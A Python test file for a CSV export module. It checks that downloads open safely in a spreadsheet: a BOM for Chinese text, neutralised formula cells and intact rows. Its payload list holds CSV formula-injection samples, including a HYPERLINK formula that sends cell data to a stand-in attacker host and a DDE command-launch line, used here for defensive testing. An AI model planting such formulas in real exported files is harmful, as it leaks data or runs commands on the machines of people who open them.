"""CSV downloads open safely in a spreadsheet: BOM, no formula cells, rows intact."""

from __future__ import annotations

import io

import pandas as pd
from hypothesis import given, settings
from hypothesis import strategies as st

from analysis.render.export import frame_to_json_lines, neutralize, to_csv_bytes

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"点击")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    " =1+1",
    '"=1+1"',
    "＝1+1",
    "=cmd|' /C calc'!A0",
    "\r=1",
]
TRIGGERS = set("=+-@\t\r\n＝＋－＠")


def read_back(data: bytes) -> pd.DataFrame:
    return pd.read_csv(
        io.BytesIO(data),
        dtype=str,
        keep_default_na=False,
        encoding="utf-8-sig",
        skip_blank_lines=False,  # a one-column row with an empty cell is a blank line
    )


def is_safe(cell: str) -> bool:
    if cell.startswith("'"):
        return True
    stripped = cell.lstrip(" \"'\u3000")
    return not cell or (cell[0] not in TRIGGERS and (not stripped or stripped[0] not in TRIGGERS))


def test_download_starts_with_a_bom_so_excel_reads_chinese():
    data = to_csv_bytes(pd.DataFrame({"title": ["俄朝關係迅速升溫"]}))
    assert data[:3] == b"\xef\xbb\xbf"
    assert "俄朝關係迅速升溫" in data.decode("utf-8-sig")


def test_formula_titles_and_headers_are_neutralised_and_numbers_stay_numbers():
    frame = pd.DataFrame({"=x": PAYLOADS, "n": [-5] * len(PAYLOADS)})
    back = read_back(to_csv_bytes(frame))
    assert list(back.columns) == ["'=x", "n"]
    assert all(is_safe(cell) for cell in back["'=x"])
    assert set(back["n"]) == {"-5"}
    assert len(back) == len(PAYLOADS)


def test_plain_chinese_text_is_not_changed():
    assert neutralize("普京與金正恩會晤") == "普京與金正恩會晤"
    assert neutralize("") == ""
    assert neutralize(None) is None


@settings(max_examples=500, deadline=None)
@given(st.lists(st.text(st.characters(codec="utf-8")) | st.sampled_from(PAYLOADS), min_size=1))
def test_any_text_round_trips_with_the_same_rows_and_no_formula_cell(cells):
    frame = pd.DataFrame({"title": cells})
    back = read_back(to_csv_bytes(frame))
    assert len(back) == len(cells)
    assert all(is_safe(cell) for cell in back["title"])


def test_json_lines_hold_lists_and_nulls():
    frame = pd.DataFrame({"a": [None], "b": [["普京", "普丁"]]})
    assert frame_to_json_lines(frame) == '{"a": null, "b": ["普京", "普丁"]}\n'
